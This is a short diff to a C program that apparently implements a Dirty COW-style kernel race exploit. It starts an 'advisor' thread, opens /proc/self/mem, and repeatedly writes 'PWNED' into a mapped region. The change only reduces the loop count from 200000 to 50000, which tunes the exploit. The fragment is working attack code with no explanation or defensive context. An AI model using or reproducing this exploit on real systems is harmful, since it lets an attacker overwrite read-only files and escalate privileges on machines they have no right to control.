@@ -39,7 +39,7 @@ int main(int argc, char **argv) {
     pthread_create(&t, NULL, advisor, NULL);
     int mem = open("/proc/self/mem", O_RDWR);
     long writes = 0;
-    for (int i = 0; i < 200000; i++) {
+    for (int i = 0; i < 50000; i++) {
         lseek(mem, (off_t)(uintptr_t)map, SEEK_SET);
         if (write(mem, "PWNED", 5) == 5) writes++;
     }
